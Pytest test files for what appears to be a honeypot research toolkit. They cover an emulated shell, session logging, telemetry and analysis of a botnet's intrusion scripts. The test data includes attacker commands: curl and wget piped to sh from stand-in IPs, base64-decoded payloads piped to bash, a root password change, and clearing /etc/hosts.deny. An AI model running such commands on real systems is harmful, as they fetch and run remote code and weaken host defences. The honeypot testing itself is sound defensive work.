