"""Engine semantics: connectors, redirects, file events, exec attempts."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.honeypot.session import FileOp
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.util.hashing import sha256_hex


@pytest.fixture
def ctx():
    return ShellContext()


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


class TestConnectors:
    def test_and_short_circuits(self, engine):
        output = engine.run_line("cat /nope && echo yes").output
        assert "yes" not in output

    def test_and_runs_on_success(self, engine):
        assert "yes" in engine.run_line("true && echo yes").output

    def test_or_runs_on_failure(self, engine):
        assert "fallback" in engine.run_line("cat /nope || echo fallback").output

    def test_or_skipped_on_success(self, engine):
        output = engine.run_line("echo first || echo second").output
        assert "second" not in output

    def test_cd_fallback_chain(self, ctx, engine):
        engine.run_line("cd /nonexistent || cd /var/run || cd /mnt")
        assert ctx.cwd == "/var/run"


class TestRedirects:
    def test_create_event_with_hash(self, ctx, engine):
        engine.run_line("echo payload > /tmp/f")
        (event,) = [e for e in ctx.file_events if e.path == "/tmp/f"]
        assert event.op == FileOp.CREATE
        assert event.sha256 == sha256_hex(b"payload\n")

    def test_append_accumulates(self, ctx, engine):
        engine.run_line("echo one > /tmp/f")
        engine.run_line("echo two >> /tmp/f")
        assert ctx.fs.read("/tmp/f") == b"one\ntwo\n"
        ops = [e.op for e in ctx.file_events if e.path == "/tmp/f"]
        assert ops == [FileOp.CREATE, FileOp.MODIFY]

    def test_dev_null_no_event(self, ctx, engine):
        engine.run_line("echo x > /dev/null")
        assert ctx.file_events == []

    def test_relative_path_resolved(self, ctx, engine):
        engine.run_line("cd /tmp")
        engine.run_line("echo x > f")
        assert ctx.fs.is_file("/tmp/f")

    def test_binary_roundtrip_via_echo_hex(self, ctx, engine):
        payload = bytes(range(256))
        escaped = "".join(f"\\x{b:02x}" for b in payload)
        engine.run_line(f'echo -ne "{escaped}" > /tmp/bin')
        assert ctx.fs.read("/tmp/bin") == payload

    @given(st.binary(min_size=1, max_size=64))
    @settings(max_examples=40, deadline=None)
    def test_binary_roundtrip_property(self, payload):
        context = ShellContext()
        local_engine = ShellEngine(context)
        escaped = "".join(f"\\x{b:02x}" for b in payload)
        local_engine.run_line(f'echo -ne "{escaped}" > /tmp/bin')
        assert context.fs.read("/tmp/bin") == payload

    def test_base64_dropper_hash_matches(self, ctx, engine):
        import base64

        payload = b"\x7fELF\x01\x02binary-blob\xff\xfe"
        blob = base64.b64encode(payload).decode()
        engine.run_line(f"echo {blob} > /tmp/p.b64")
        engine.run_line("base64 -d /tmp/p.b64 > /tmp/p")
        assert ctx.fs.read("/tmp/p") == payload
        assert any(e.sha256 == sha256_hex(payload) for e in ctx.file_events)


class TestExecAttempts:
    def test_exec_existing_records_hash(self, ctx, engine):
        engine.run_line("echo -n run > /tmp/x")
        engine.run_line("./x" if ctx.cwd == "/tmp" else "/tmp/x")
        events = [e for e in ctx.file_events if e.op == FileOp.EXECUTE]
        assert events and events[0].sha256 == sha256_hex(b"run")

    def test_exec_missing(self, ctx, engine):
        record = engine.run_line("./ghost")
        assert "No such file" in record.output
        assert any(e.op == FileOp.EXECUTE_MISSING for e in ctx.file_events)

    def test_sh_script_is_exec(self, ctx, engine):
        engine.run_line("echo -n x > /tmp/s.sh")
        engine.run_line("sh /tmp/s.sh")
        assert any(
            e.op == FileOp.EXECUTE and e.path == "/tmp/s.sh"
            for e in ctx.file_events
        )

    def test_perl_script_is_exec(self, ctx, engine):
        engine.run_line("perl /tmp/dred.pl")
        assert any(e.op == FileOp.EXECUTE_MISSING for e in ctx.file_events)

    def test_perl_inline_is_not_exec(self, ctx, engine):
        engine.run_line("perl -e 'print 1'")
        assert ctx.file_events == []


class TestUnknownCommands:
    def test_scp_unknown(self, engine):
        record = engine.run_line("scp user@evil:/x /tmp/x")
        assert not record.known
        assert "command not found" in record.output

    def test_rsync_unknown(self, engine):
        assert not engine.run_line("rsync -a evil:/m /tmp/").known

    def test_known_chain_stays_known(self, engine):
        assert engine.run_line("cd /tmp; uname -a").known

    def test_one_unknown_taints_line(self, engine):
        assert not engine.run_line("uname -a; frobnicate").known


class TestPathCommands:
    def test_bin_busybox_resolves(self, engine):
        record = engine.run_line("/bin/busybox ZXCVB")
        assert record.known
        assert "applet not found" in record.output

    def test_usr_bin_wget_resolves(self, ctx, engine):
        ctx.remote_files["http://h/f"] = b"x"
        engine.run_line("/usr/bin/wget http://h/f")
        assert ctx.uris == ["http://h/f"]

    def test_parse_error_recorded_unknown(self, engine):
        record = engine.run_line('echo "unterminated')
        assert not record.known

    def test_exit_stops_session(self, ctx, engine):
        engine.run_line("exit")
        assert ctx.exited


class TestUriRecording:
    def test_uri_extracted_from_unknown_line(self, ctx, engine):
        engine.run_line("scp http://1.2.3.4/payload /tmp/x")
        assert "http://1.2.3.4/payload" in ctx.uris

    def test_no_double_recording(self, ctx, engine):
        ctx.remote_files["http://1.2.3.4/f"] = b"x"
        engine.run_line("wget http://1.2.3.4/f")
        assert ctx.uris.count("http://1.2.3.4/f") == 1

    def test_tftp_synthesized_uri(self, ctx, engine):
        engine.run_line("tftp -g -r file 9.9.9.9")
        assert "tftp://9.9.9.9/file" in ctx.uris


class TestWrappers:
    def test_nohup_runs_inner(self, engine):
        assert "hi" in engine.run_line("nohup echo hi").output

    def test_sudo_runs_inner(self, engine):
        assert engine.run_line("sudo uname").output == "Linux\n"

    def test_sh_c_runs_inline(self, ctx, engine):
        engine.run_line('sh -c "echo inner > /tmp/inner"')
        assert ctx.fs.is_file("/tmp/inner")


class TestPipeToShell:
    def test_curl_pipe_sh_executes_fetched_script(self):
        # the classic `curl url | sh` loader: the fetched script body is
        # executed line by line through the emulated shell
        ctx = ShellContext(
            remote_files={"http://9.9.9.9/i.sh": b"echo stage2 > /tmp/stage2\n"}
        )
        engine = ShellEngine(ctx)
        engine.run_line("curl http://9.9.9.9/i.sh | sh")
        assert ctx.fs.read("/tmp/stage2") == b"stage2\n"

    def test_wget_quiet_stdout_pipe(self):
        ctx = ShellContext(
            remote_files={"http://9.9.9.9/i.sh": b"echo hi\n"}
        )
        engine = ShellEngine(ctx)
        record = engine.run_line("wget -q http://9.9.9.9/i.sh -O - | sh")
        assert "hi" in record.output
