"""Fleet deployment, collector, session database."""

from __future__ import annotations

from datetime import date

import pytest

from repro.config import DEFAULT_CONFIG, OUTAGE_START
from repro.honeynet.collector import Collector, OutageWindow
from repro.honeynet.database import SessionDatabase
from repro.honeynet.deployment import deploy_honeynet
from repro.honeypot.session import (
    CommandRecord,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.net.population import build_base_population
from repro.util.rng import RngTree
from repro.util.timeutils import to_epoch


def make_session(
    start: float,
    client_ip: str = "1.1.1.1",
    protocol: Protocol = Protocol.SSH,
    login: bool = True,
    commands: tuple[str, ...] = (),
    session_id: str | None = None,
) -> SessionRecord:
    return SessionRecord(
        session_id=session_id or f"s-{start}-{client_ip}-{len(commands)}",
        honeypot_id="hp-000",
        honeypot_ip="192.0.2.1",
        honeypot_port=22 if protocol == Protocol.SSH else 23,
        protocol=protocol,
        client_ip=client_ip,
        client_port=40000,
        start=start,
        end=start + 5,
        logins=[LoginAttempt("root", "admin", login)] if login else [],
        commands=[CommandRecord(raw=c, known=True) for c in commands],
    )


class TestDeployment:
    def test_fleet_shape(self):
        tree = RngTree(7)
        population = build_base_population(tree.child("net"), 65)
        net = deploy_honeynet(DEFAULT_CONFIG, population, tree.child("deploy"))
        assert len(net) == 221
        assert len({hp.honeypot_id for hp in net.honeypots}) == 221
        assert len({hp.ip for hp in net.honeypots}) >= 200
        assert len(set(net.countries)) == 55
        assert len({hp.asn for hp in net.honeypots}) == 65

    def test_by_id(self):
        tree = RngTree(7)
        population = build_base_population(tree.child("net"), 65)
        net = deploy_honeynet(DEFAULT_CONFIG, population, tree.child("deploy"))
        assert net.by_id("hp-000").honeypot_id == "hp-000"
        with pytest.raises(KeyError):
            net.by_id("hp-999")

    def test_deterministic_under_seed(self):
        def build():
            tree = RngTree(7)
            population = build_base_population(tree.child("net"), 65)
            return deploy_honeynet(DEFAULT_CONFIG, population, tree.child("deploy"))

        assert [hp.ip for hp in build().honeypots] == [
            hp.ip for hp in build().honeypots
        ]


class TestCollector:
    def test_ingest(self):
        collector = Collector()
        assert collector.ingest(make_session(to_epoch(date(2022, 5, 1))))
        assert len(collector.sessions) == 1

    def test_outage_drops(self):
        collector = Collector()
        assert not collector.ingest(make_session(to_epoch(OUTAGE_START, 3600)))
        assert collector.dropped == 1
        assert collector.sessions == []

    def test_custom_outages(self):
        collector = Collector(
            outages=(OutageWindow(date(2022, 1, 1), date(2022, 1, 2)),)
        )
        assert not collector.ingest(make_session(to_epoch(date(2022, 1, 2))))
        assert collector.ingest(make_session(to_epoch(date(2022, 1, 3))))

    def test_ingest_many(self):
        collector = Collector()
        stored = collector.ingest_many(
            [make_session(to_epoch(date(2022, 5, 1), i)) for i in range(3)]
        )
        assert stored == 3

    def test_duplicate_session_ids_deduplicated(self):
        collector = Collector()
        record = make_session(to_epoch(date(2022, 5, 1)), session_id="dup")
        assert collector.ingest(record)
        assert not collector.ingest(record)
        assert collector.deduplicated == 1
        assert len(collector.sessions) == 1
        assert collector.accounting_balanced()


class TestSessionDatabase:
    def make_db(self):
        sessions = [
            make_session(to_epoch(date(2022, 1, 10)), commands=("uname -a",)),
            make_session(to_epoch(date(2022, 1, 20)), login=False),
            make_session(to_epoch(date(2022, 2, 5)), client_ip="2.2.2.2"),
            make_session(
                to_epoch(date(2022, 2, 6)), protocol=Protocol.TELNET
            ),
        ]
        return SessionDatabase(sessions)

    def test_sorted_by_start(self):
        db = self.make_db()
        starts = [s.start for s in db.sessions]
        assert starts == sorted(starts)

    def test_ssh_filter(self):
        db = self.make_db()
        assert len(db.ssh_sessions()) == 3
        assert len(db) == 4

    def test_command_sessions(self):
        db = self.make_db()
        assert len(db.command_sessions()) == 1

    def test_by_month(self):
        db = self.make_db()
        months = db.by_month()
        assert len(months["2022-01"]) == 2
        assert len(months["2022-02"]) == 1
        assert db.months() == ["2022-01", "2022-02"]

    def test_by_day(self):
        db = self.make_db()
        assert len(db.by_day()[date(2022, 1, 10)]) == 1

    def test_unique_client_ips(self):
        db = self.make_db()
        assert db.unique_client_ips() == {"1.1.1.1", "2.2.2.2"}

    def test_filter(self):
        db = self.make_db()
        assert len(db.filter(lambda s: s.login_succeeded)) == 2

    def test_empty_database(self):
        db = SessionDatabase([])
        assert db.unique_hashes() == set()
        assert db.months() == []
