"""SSH banner and sensor-coverage analyses."""

from __future__ import annotations

from collections import Counter

import pytest

from repro.analysis.clients import (
    banner_distribution,
    banners_by_category,
    gini_coefficient,
    sensor_coverage,
)
from repro.honeypot.session import LoginAttempt, Protocol, SessionRecord


def session(honeypot_id: str, ssh_version: str | None = "SSH-2.0-Go") -> SessionRecord:
    return SessionRecord(
        session_id=f"s-{honeypot_id}-{ssh_version}-{id(object())}",
        honeypot_id=honeypot_id,
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=1,
        start=0.0,
        end=1.0,
        ssh_version=ssh_version,
        logins=[LoginAttempt("root", "x", True)],
    )


class TestGini:
    def test_even_distribution_zero(self):
        assert gini_coefficient([5, 5, 5, 5]) == pytest.approx(0.0, abs=1e-9)

    def test_concentration_high(self):
        assert gini_coefficient([0, 0, 0, 100]) > 0.7

    def test_empty_and_zero(self):
        assert gini_coefficient([]) == 0.0
        assert gini_coefficient([0, 0]) == 0.0

    def test_bounds(self):
        assert 0.0 <= gini_coefficient([1, 2, 3, 4, 100]) <= 1.0


class TestBanners:
    def test_distribution(self):
        sessions = [session("a"), session("a"), session("a", "SSH-2.0-PUTTY")]
        counts = banner_distribution(sessions)
        assert counts["SSH-2.0-Go"] == 2
        assert counts["SSH-2.0-PUTTY"] == 1

    def test_none_skipped(self):
        assert banner_distribution([session("a", None)]) == Counter()

    def test_by_category(self):
        sessions = [session("a"), session("b", "SSH-2.0-PUTTY")]
        grouped = banners_by_category(sessions, lambda s: s.honeypot_id)
        assert grouped["a"]["SSH-2.0-Go"] == 1


class TestSensorCoverage:
    def test_coverage(self):
        sessions = [session("hp-0"), session("hp-0"), session("hp-1")]
        coverage = sensor_coverage(sessions, {"hp-0": "DE", "hp-1": "US"})
        assert coverage.active_honeypots == 2
        assert coverage.sessions_per_country["DE"] == 2
        assert coverage.busiest_honeypot == ("hp-0", 2)

    def test_unknown_country(self):
        coverage = sensor_coverage([session("hp-9")], {})
        assert coverage.sessions_per_country["??"] == 1

    def test_dataset_coverage_is_broad(self, dataset):
        countries = {
            hp.honeypot_id: hp.country
            for hp in dataset.simulation.honeynet.honeypots
        }
        coverage = sensor_coverage(dataset.database.ssh_sessions(), countries)
        assert coverage.active_honeypots > 150
        assert coverage.gini < 0.4  # spraying attacks spread evenly

    def test_experiment_notes(self, results):
        text = " ".join(results["ext_sensor_coverage"].notes)
        assert "Gini" in text
        assert "curl_maxred" in text
