"""JSONL session-log persistence."""

from __future__ import annotations

import json

import pytest

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.honeynet.database import SessionDatabase
from repro.honeynet.io import (
    SCHEMA_VERSION,
    SessionLogError,
    read_jsonl,
    session_from_dict,
    session_to_dict,
    write_jsonl,
)


class TestRoundTrip:
    def test_dataset_round_trips(self, dataset, tmp_path):
        sessions = dataset.database.ssh_sessions()[:200]
        path = tmp_path / "sessions.jsonl"
        count = write_jsonl(sessions, path)
        assert count == 200
        loaded = read_jsonl(path)
        assert len(loaded) == 200
        for original, restored in zip(sessions, loaded):
            assert session_to_dict(original) == session_to_dict(restored)

    def test_analysis_works_on_reloaded_logs(self, dataset, tmp_path):
        sessions = dataset.database.command_sessions()[:150]
        path = tmp_path / "cmd.jsonl"
        write_jsonl(sessions, path)
        reloaded = SessionDatabase(read_jsonl(path))
        original_counts = DEFAULT_CLASSIFIER.counts(sessions)
        reloaded_counts = DEFAULT_CLASSIFIER.counts(reloaded.command_sessions())
        assert original_counts == reloaded_counts

    def test_hashes_survive(self, dataset, tmp_path):
        sessions = [
            s for s in dataset.database.command_sessions() if s.transfer_hashes()
        ][:20]
        path = tmp_path / "dl.jsonl"
        write_jsonl(sessions, path)
        loaded = read_jsonl(path)
        for original, restored in zip(sessions, loaded):
            assert restored.transfer_hashes() == original.transfer_hashes()


class TestErrorHandling:
    def test_version_rejected(self):
        with pytest.raises(SessionLogError):
            session_from_dict({"v": 999})

    def test_missing_fields_rejected(self):
        with pytest.raises(SessionLogError):
            session_from_dict({"v": SCHEMA_VERSION, "session_id": "x"})

    def test_invalid_json_line(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text("{not json}\n")
        with pytest.raises(SessionLogError):
            read_jsonl(path)

    def test_blank_lines_skipped(self, dataset, tmp_path):
        sessions = dataset.database.ssh_sessions()[:2]
        path = tmp_path / "gaps.jsonl"
        lines = [json.dumps(session_to_dict(s)) for s in sessions]
        path.write_text(lines[0] + "\n\n" + lines[1] + "\n")
        assert len(read_jsonl(path)) == 2

    def test_invalid_enum_rejected(self, dataset, tmp_path):
        payload = session_to_dict(dataset.database.ssh_sessions()[0])
        payload["protocol"] = "carrier-pigeon"
        with pytest.raises(SessionLogError):
            session_from_dict(payload)

    def test_errors_carry_structured_context(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"v": 1}\n{not json}\n')
        with pytest.raises(SessionLogError) as caught:
            read_jsonl(path)
        error = caught.value
        assert error.path == str(path)
        assert error.line == 1  # the malformed record comes first
        assert error.reason == "malformed-record"
        assert str(path) in str(error) and "line 1" in str(error)
        assert error.__cause__ is not None  # exception chaining preserved

    def test_invalid_json_reports_line_number(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text("{not json}\n")
        with pytest.raises(SessionLogError) as caught:
            read_jsonl(path)
        assert caught.value.reason == "invalid-json"
        assert caught.value.line == 1

    def test_version_error_reason(self):
        with pytest.raises(SessionLogError) as caught:
            session_from_dict({"v": 999})
        assert caught.value.reason == "unsupported-version"


class TestSelfVerification:
    def test_write_produces_sidecar_manifest(self, dataset, tmp_path):
        from repro.integrity.manifest import read_manifest

        sessions = dataset.database.ssh_sessions()[:10]
        path = tmp_path / "sessions.jsonl"
        write_jsonl(sessions, path)
        manifest = read_manifest(path)
        assert manifest is not None and manifest.lines == 10
        assert not path.with_name(path.name + ".tmp").exists()  # atomic

    def test_manifest_can_be_suppressed(self, dataset, tmp_path):
        from repro.integrity.manifest import manifest_path

        path = tmp_path / "bare.jsonl"
        write_jsonl(dataset.database.ssh_sessions()[:5], path, manifest=False)
        assert not manifest_path(path).exists()
        assert len(read_jsonl(path)) == 5

    def test_strict_read_rejects_tampered_line(self, dataset, tmp_path):
        path = tmp_path / "t.jsonl"
        write_jsonl(dataset.database.ssh_sessions()[:5], path)
        lines = path.read_text().splitlines()
        payload = json.loads(lines[2])
        payload["client_ip"] = "6.6.6.6"  # flip content, keep old checksum
        lines[2] = json.dumps(payload)
        path.write_text("".join(line + "\n" for line in lines))
        with pytest.raises(SessionLogError) as caught:
            read_jsonl(path)
        assert caught.value.reason == "checksum-mismatch"
        assert caught.value.line == 3

    def test_strict_read_rejects_truncated_file(self, dataset, tmp_path):
        path = tmp_path / "t.jsonl"
        write_jsonl(dataset.database.ssh_sessions()[:5], path)
        lines = path.read_text().splitlines()
        path.write_text("".join(line + "\n" for line in lines[:-1]))
        with pytest.raises(SessionLogError) as caught:
            read_jsonl(path)
        assert caught.value.reason == "manifest-mismatch"

    def test_lenient_read_recovers_around_damage(self, dataset, tmp_path):
        path = tmp_path / "t.jsonl"
        sessions = dataset.database.ssh_sessions()[:6]
        write_jsonl(sessions, path)
        lines = path.read_text().splitlines()
        lines[1] = lines[1][:20]  # truncate one line mid-record
        path.write_text("".join(line + "\n" for line in lines))
        quarantine = tmp_path / "quarantine"
        loaded = read_jsonl(path, mode="lenient", quarantine=quarantine)
        assert [s.session_id for s in loaded] == [
            s.session_id for i, s in enumerate(sessions) if i != 1
        ]
        assert (quarantine / "quarantine.jsonl").exists()

    def test_unknown_mode_rejected(self, tmp_path):
        (tmp_path / "x.jsonl").write_text("")
        with pytest.raises(ValueError, match="unknown read mode"):
            read_jsonl(tmp_path / "x.jsonl", mode="optimistic")
