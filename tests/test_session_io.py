"""JSONL session-log persistence."""

from __future__ import annotations

import json

import pytest

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.honeynet.database import SessionDatabase
from repro.honeynet.io import (
    SCHEMA_VERSION,
    SessionLogError,
    read_jsonl,
    session_from_dict,
    session_to_dict,
    write_jsonl,
)


class TestRoundTrip:
    def test_dataset_round_trips(self, dataset, tmp_path):
        sessions = dataset.database.ssh_sessions()[:200]
        path = tmp_path / "sessions.jsonl"
        count = write_jsonl(sessions, path)
        assert count == 200
        loaded = read_jsonl(path)
        assert len(loaded) == 200
        for original, restored in zip(sessions, loaded):
            assert session_to_dict(original) == session_to_dict(restored)

    def test_analysis_works_on_reloaded_logs(self, dataset, tmp_path):
        sessions = dataset.database.command_sessions()[:150]
        path = tmp_path / "cmd.jsonl"
        write_jsonl(sessions, path)
        reloaded = SessionDatabase(read_jsonl(path))
        original_counts = DEFAULT_CLASSIFIER.counts(sessions)
        reloaded_counts = DEFAULT_CLASSIFIER.counts(reloaded.command_sessions())
        assert original_counts == reloaded_counts

    def test_hashes_survive(self, dataset, tmp_path):
        sessions = [
            s for s in dataset.database.command_sessions() if s.transfer_hashes()
        ][:20]
        path = tmp_path / "dl.jsonl"
        write_jsonl(sessions, path)
        loaded = read_jsonl(path)
        for original, restored in zip(sessions, loaded):
            assert restored.transfer_hashes() == original.transfer_hashes()


class TestErrorHandling:
    def test_version_rejected(self):
        with pytest.raises(SessionLogError):
            session_from_dict({"v": 999})

    def test_missing_fields_rejected(self):
        with pytest.raises(SessionLogError):
            session_from_dict({"v": SCHEMA_VERSION, "session_id": "x"})

    def test_invalid_json_line(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text("{not json}\n")
        with pytest.raises(SessionLogError):
            read_jsonl(path)

    def test_blank_lines_skipped(self, dataset, tmp_path):
        sessions = dataset.database.ssh_sessions()[:2]
        path = tmp_path / "gaps.jsonl"
        lines = [json.dumps(session_to_dict(s)) for s in sessions]
        path.write_text(lines[0] + "\n\n" + lines[1] + "\n")
        assert len(read_jsonl(path)) == 2

    def test_invalid_enum_rejected(self, dataset, tmp_path):
        payload = session_to_dict(dataset.database.ssh_sessions()[0])
        payload["protocol"] = "carrier-pigeon"
        with pytest.raises(SessionLogError):
            session_from_dict(payload)
