"""The mdrfckr case-study analyses."""

from __future__ import annotations

import base64
from datetime import date, timedelta

from repro.analysis.mdrfckr_case import (
    LowActivityWindow,
    c2_ips_from_cleanups,
    classify_script,
    correlate_events,
    decode_base64_uploads,
    detect_low_activity_windows,
    is_variant,
    mdrfckr_sessions,
    split_variants,
)
from repro.events import DOCUMENTED_EVENTS, event_windows
from repro.honeypot.session import (
    CommandRecord,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.util.timeutils import to_epoch


def session(commands: tuple[str, ...], when=date(2022, 5, 1)) -> SessionRecord:
    return SessionRecord(
        session_id=f"s-{commands[:1]}-{when}",
        honeypot_id="hp",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=1,
        start=to_epoch(when),
        end=to_epoch(when) + 1,
        logins=[LoginAttempt("root", "x", True)],
        commands=[CommandRecord(raw=c, known=True) for c in commands],
    )


class TestEvents:
    def test_eight_documented_events(self):
        assert len(DOCUMENTED_EVENTS) == 8
        assert all(e.start <= e.end for e in DOCUMENTED_EVENTS)

    def test_chronological(self):
        starts = [e.start for e in DOCUMENTED_EVENTS]
        assert starts == sorted(starts)

    def test_event_windows_pairs(self):
        assert event_windows()[0] == (date(2022, 3, 16), date(2022, 3, 24))


class TestVariantSplit:
    def test_initial_not_variant(self):
        record = session(('echo "root:abc123"|chpasswd', "uname -a"))
        assert not is_variant(record)

    def test_variant_detected(self):
        record = session(
            ("rm -rf /tmp/auth.sh /tmp/secure.sh", 'echo "" > /etc/hosts.deny')
        )
        assert is_variant(record)

    def test_split(self):
        initial = session(('echo "root:x"|chpasswd',))
        variant = session(('echo "" > /etc/hosts.deny',))
        a, b = split_variants([initial, variant])
        assert a == [initial] and b == [variant]

    def test_selection_by_category(self, dataset):
        selected = mdrfckr_sessions(dataset.database.command_sessions())
        assert selected
        assert all("mdrfckr" in s.command_text for s in selected)


class TestBase64Decoding:
    def test_classify_script_kinds(self):
        assert classify_script("#!/bin/sh\n# cleanup\npkill -9 -f 1.2.3.4") == "cleanup"
        assert classify_script("SERVER=irc.x CHANNEL=#a") == "shellbot"
        assert classify_script("WALLET=x xmrig pool") == "cryptominer"
        assert classify_script("echo hi") == "other"

    def test_decode_and_c2_extraction(self):
        body = "#!/bin/sh\n# cleanup\npkill -9 -f 5.5.5.5\npkill -9 -f 6.6.6.6\n"
        blob = base64.b64encode(body.encode()).decode()
        record = session((f"echo {blob} | base64 -d | bash",))
        decoded = decode_base64_uploads([record])
        assert len(decoded) == 1
        assert decoded[0].kind == "cleanup"
        assert decoded[0].c2_ips == ("5.5.5.5", "6.6.6.6")
        assert c2_ips_from_cleanups(decoded) == {"5.5.5.5", "6.6.6.6"}

    def test_invalid_base64_skipped(self):
        record = session(("echo ZZZZ%%%%ZZZZZZZZZZZZZZZZZZZZZZZZ | base64 -d | bash",))
        assert decode_base64_uploads([record]) == []

    def test_dataset_c2_matches_ground_truth(self, dataset):
        from repro.attackers.bots.mdrfckr import C2_INFRASTRUCTURE

        selected = mdrfckr_sessions(dataset.database.command_sessions())
        decoded = decode_base64_uploads(selected)
        c2 = c2_ips_from_cleanups(decoded)
        assert c2 == {ip for ip, _ in C2_INFRASTRUCTURE}


class TestDropDetection:
    def make_series(self, windows):
        """1000-day series at 100/day with given zero windows."""
        start = date(2022, 1, 1)
        series = {}
        for offset in range(700):
            day = start + timedelta(days=offset)
            value = 100
            for w_start, w_end in windows:
                if w_start <= day <= w_end:
                    value = 0
            series[day] = value
        return series

    def test_detects_synthetic_window(self):
        window = (date(2022, 6, 1), date(2022, 6, 7))
        series = self.make_series([window])
        detected = detect_low_activity_windows(series)
        assert detected
        assert any(
            d.start <= window[1] and window[0] <= d.end for d in detected
        )

    def test_no_false_positives_on_flat_series(self):
        series = self.make_series([])
        assert detect_low_activity_windows(series) == []

    def test_warmup_skipped(self):
        # zeros right at the start are the deployment ramp, not a drop
        window = (date(2022, 1, 1), date(2022, 1, 20))
        series = self.make_series([window])
        detected = detect_low_activity_windows(series)
        assert all(d.start > date(2022, 1, 20) for d in detected)

    def test_missing_days_count_as_zero(self):
        series = self.make_series([])
        for offset in range(200, 207):
            del series[date(2022, 1, 1) + timedelta(days=offset)]
        detected = detect_low_activity_windows(series)
        assert detected

    def test_empty_series(self):
        assert detect_low_activity_windows({}) == []


class TestCorrelation:
    def test_matches_overlapping_event(self):
        windows = [LowActivityWindow(date(2022, 3, 17), date(2022, 3, 23))]
        correlation = correlate_events(windows)
        assert DOCUMENTED_EVENTS[0] in correlation.matched_events

    def test_slack_tolerates_offsets(self):
        windows = [LowActivityWindow(date(2022, 3, 26), date(2022, 3, 27))]
        correlation = correlate_events(windows, slack_days=2)
        assert DOCUMENTED_EVENTS[0] in correlation.matched_events

    def test_unmatched_window_reported(self):
        windows = [LowActivityWindow(date(2023, 7, 1), date(2023, 7, 3))]
        correlation = correlate_events(windows)
        assert windows[0] in correlation.unmatched_windows

    def test_recall_bounds(self):
        correlation = correlate_events([])
        assert correlation.recall == 0.0
        full = correlate_events(
            [LowActivityWindow(e.start, e.end) for e in DOCUMENTED_EVENTS]
        )
        assert full.recall == 1.0
