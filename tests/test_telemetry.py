"""Telemetry layer: unit behaviour + the determinism differential suite.

Two contracts are enforced here:

* **Observational only** — enabling telemetry changes nothing about
  the pipeline's outputs: the default-config run still produces the
  golden digest, short runs are byte-identical on vs off, and the
  registry never appears in fingerprints or cache keys.
* **Merge equivalence** — shard-local registries merged in shard order
  reproduce the serial run's counters and histogram buckets exactly
  (float sums up to summation order), for every fault profile and
  worker count.
"""

from __future__ import annotations

import json

import pytest

from repro import telemetry
from repro.attackers.orchestrator import run_simulation
from repro.config import DEFAULT_CONFIG
from repro.telemetry.metrics import (
    BACKOFF_BOUNDS,
    VOLUME_BOUNDS,
    Histogram,
    MetricsRegistry,
    SpanStats,
)
from repro.telemetry.report import (
    TELEMETRY_VERSION,
    run_report_markdown,
    telemetry_document,
)
from repro.telemetry.spans import NULL_SPAN
from tests.conftest import (
    GOLDEN_DEFAULT_DIGEST,
    PROFILES,
    short_fault_config,
)


@pytest.fixture(autouse=True)
def _telemetry_disabled():
    """Every test starts and ends with telemetry off (no leakage)."""
    telemetry.disable()
    yield
    telemetry.disable()


class TestHistogram:
    def test_bucket_edges_are_inclusive_upper(self):
        histogram = Histogram((0, 1, 5))
        for value in (0, 0.5, 1, 3, 5, 6):
            histogram.observe(value)
        # bucket i counts bounds[i-1] < v <= bounds[i]; one overflow.
        assert histogram.counts == [1, 2, 2, 1]
        assert histogram.count == 6
        assert histogram.min == 0 and histogram.max == 6

    def test_overflow_bucket_catches_everything_above(self):
        histogram = Histogram(VOLUME_BOUNDS)
        histogram.observe(10**9)
        assert histogram.counts[-1] == 1

    def test_bounds_must_be_strictly_increasing(self):
        with pytest.raises(ValueError, match="strictly increasing"):
            Histogram((1, 1, 2))
        with pytest.raises(ValueError, match="strictly increasing"):
            Histogram(())

    def test_merge_requires_identical_layout(self):
        with pytest.raises(ValueError, match="bucket layouts"):
            Histogram((0, 1)).merge(Histogram((0, 2)))

    def test_merge_equals_concatenated_observation(self):
        a, b, c = (Histogram(BACKOFF_BOUNDS) for _ in range(3))
        for value in (0.1, 0.5, 2.0):
            a.observe(value)
            c.observe(value)
        for value in (4.0, 100.0):
            b.observe(value)
            c.observe(value)
        a.merge(b)
        assert a.counts == c.counts
        assert a.count == c.count
        assert a.sum == pytest.approx(c.sum)
        assert (a.min, a.max) == (c.min, c.max)

    def test_roundtrip(self):
        histogram = Histogram((0, 1))
        histogram.observe(0.5)
        assert Histogram.from_dict(histogram.to_dict()).to_dict() == (
            histogram.to_dict()
        )


class TestRegistry:
    def test_count_gauge_observe(self):
        registry = MetricsRegistry()
        registry.count("a")
        registry.count("a", 4)
        registry.gauge("g", 1.0)
        registry.gauge("g", 2.0)
        registry.observe("h", 3)
        assert registry.counters == {"a": 5}
        assert registry.gauges == {"g": 2.0}
        assert registry.histograms["h"].count == 1

    def test_merge_sums_counters_and_keeps_last_gauge(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.count("x", 2)
        b.count("x", 3)
        b.count("y")
        a.gauge("g", 1.0)
        b.gauge("g", 9.0)
        a.record_span("s", 0.5)
        b.record_span("s", 1.5)
        a.merge(b)
        assert a.counters == {"x": 5, "y": 1}
        assert a.gauges == {"g": 9.0}
        assert a.spans["s"].count == 2
        assert a.spans["s"].max_s == 1.5

    def test_export_roundtrip(self):
        registry = MetricsRegistry()
        registry.count("c", 7)
        registry.observe("h", 2.5, (0.0, 5.0))
        registry.record_span("outer/inner", 0.01)
        restored = MetricsRegistry.from_export(registry.export())
        assert restored.export() == registry.export()

    def test_merge_export_matches_merge(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.count("c")
        b.count("c", 2)
        b.observe("h", 1)
        a.merge_export(b.export())
        assert a.counters["c"] == 3
        assert a.histograms["h"].count == 1


class TestSpans:
    def test_nested_paths(self):
